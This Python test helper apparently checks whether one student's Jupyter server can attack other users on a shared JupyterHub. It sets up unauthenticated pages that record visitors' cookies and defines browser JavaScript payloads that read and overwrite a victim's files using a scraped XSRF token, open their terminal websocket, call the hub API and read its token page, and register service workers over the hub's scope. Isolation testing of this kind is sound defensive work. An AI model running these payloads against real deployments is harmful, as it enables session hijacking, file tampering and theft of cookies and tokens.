"""A student whose own server serves pages to whoever comes, and what such a page tries in its visitor's browser."""

from playwright.sync_api import Page

from room import Person

# For ~/.jupyter: pages that need no login, and a service worker that asks for the whole of its origin.
CONFIG = """
import sys
sys.path.insert(0, "/home/student")
c.ServerApp.jpserver_extensions = {"open_pages": True}
c.ServerApp.allow_unauthenticated_access = True
"""
PAGES = """
from tornado import web

class Open(web.RequestHandler):
    def get(self, name):
        with open("/home/student/seen", "a") as seen:
            seen.write(self.request.headers.get("Cookie", "") + chr(10))
        self.set_header("Service-Worker-Allowed", "/")
        script = name == "worker.js"
        self.set_header("Content-Type", "text/javascript" if script else "text/html")
        self.write("onfetch = e => e.respondWith(new Response('replaced'))" if script else "<h1>Free cake</h1>")

def _load_jupyter_server_extension(app):
    app.web_app.add_handlers(".*$", [(app.base_url + "open/(.*)", Open)])
"""

# Each resolves to a true value where the attack succeeded. To is where things are, for the visitor's browser.
ATTACKS = {
    "reads the visitor's files": "async to => (await fetch(`${to.server}api/contents/diary.txt`, {credentials: 'include'})).ok",
    "writes the visitor's files": """async to => {
        const body = JSON.stringify({type: 'file', format: 'text', content: 'ivan was here'});
        const headers = {'Content-Type': 'application/json', 'X-XSRFToken': (/_xsrf=([^;]+)/.exec(document.cookie) ?? [])[1] ?? ''};
        return (await fetch(`${to.server}api/contents/diary.txt`, {method: 'PUT', credentials: 'include', headers, body})).ok;
    }""",
    "writes them by a request that needs no leave": """async to => {
        const body = JSON.stringify({type: 'file', format: 'text', content: 'ivan was here'});
        const url = `${to.server}api/contents?_xsrf=${(/_xsrf=([^;]+)/.exec(document.cookie) ?? [])[1] ?? ''}`;
        const answer = await fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include', body});
        return answer.ok;
    }""",
    "sits at the visitor's terminal": """to => new Promise(resolve => {
        const socket = new WebSocket(`${to.server.replace('http', 'ws')}terminals/websocket/${to.terminal}`);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
    })""",
    "asks the hub as the visitor": "async to => (await fetch(`${to.hub}api/user`, {credentials: 'include'})).ok",
    "reads the page on which the hub makes tokens": """async to => {
        const page = await (await fetch(`${to.hub}token`, {credentials: 'include'})).text();
        return page.includes('Request new API token');
    }""",
    "reads a page of the hub's in a window": """async to => {
        const opened = window.open(`${to.hub}home`);
        for (let i = 0; i < 100; i++) {
            await new Promise(resolve => setTimeout(resolve, 50));
            try { if (opened.document.querySelector('#start, #stop, #logout')) return true; } catch { return false; }
        }
        return false;
    }""",
    "registers a service worker for the whole origin": """async to => {
        const worker = new URL('worker.js', location.href).href;
        return Boolean(await navigator.serviceWorker.register(worker, {scope: '/'}));
    }""",
    "registers one for the hub's pages": """async to => {
        const worker = new URL('worker.js', location.href).href;
        return Boolean(await navigator.serviceWorker.register(worker, {scope: new URL(to.hub).pathname}));
    }""",
}

TRY = """async ([attacks, to]) => {
    const succeeded = [];
    for (const [name, attack] of Object.entries(attacks)) {
        try { if (await eval(`(${attack})`)(to)) succeeded.push(name); } catch { }
    }
    return succeeded;
}"""


def serve(person: Person) -> None:
    """Starts the person's server with pages for everybody, at open/."""
    person.start()
    for name, content in (("open_pages.py", PAGES), (".jupyter/jupyter_server_config.py", CONFIG)):
        person.shell(f"mkdir -p ~/.jupyter && cat > ~/{name} <<'END'\n{content}\nEND")
    person.stop()
    person.start()


def attack(page: Page, victim: Person, terminal: str) -> list[str]:
    """The attacks of which the page that is open now is capable, in its visitor's browser."""
    room = victim.room
    to = {"hub": room.where("hub/"), "server": room.where(f"user/{victim.name}/"), "terminal": terminal}
    return page.evaluate(TRY, [ATTACKS, to])


def cookies_seen(person: Person) -> str:
    """The cookies that the open pages' visitors sent along."""
    return person.shell("cat ~/seen", check=False)
